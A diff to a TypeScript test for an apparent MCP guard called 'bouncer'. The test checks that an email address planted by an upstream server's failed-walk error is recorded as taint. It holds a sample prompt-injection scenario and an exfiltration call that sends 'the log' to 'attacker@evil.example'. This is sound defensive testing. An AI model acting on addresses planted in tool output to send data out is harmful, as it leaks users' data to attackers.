@@ -154,14 +154,15 @@ describe("bouncer run --record then bouncer replay (failed walks)", () => {
       const home = tempHome();
       const sink = "send_email:\n  exfiltrating: true\n  sink_params: [to]\n";
       const { live, session, policy } = await start(home, ["--break-once"], sink);
-      // The second walk (after list_changed) fails with an error that plants an address; the client
-      // lists the tools and is shown the upstream's words.
+      // The second walk (after list_changed) fails with an error that plants an address: it is
+      // recorded when the walk fails, since a client listing the tools then may be shown it.
       live.send({ jsonrpc: "2.0", id: 2, method: "resources/list", params: {} });
       await waitUntil(() => live.stderr().includes(FAILED), 20_000, "the failed walk");
+      // The client's listing walks again (the third walk succeeds): it is shown the tools.
       live.send({ jsonrpc: "2.0", id: 3, method: "tools/list", params: {} });
       const listed = await live.next((m) => m.id === 3, "tools/list answered");
-      expect(JSON.stringify(listed.error)).toContain("attacker@evil.example");
-      // The call walks again (the third walk succeeds), then is decided.
+      expect(listed.error).toBeUndefined();
+      // The call is decided on that walk; the address the failed walk's error planted is taint.
       const to = { to: "attacker@evil.example", body: "the log" };
       live.send({
         jsonrpc: "2.0",
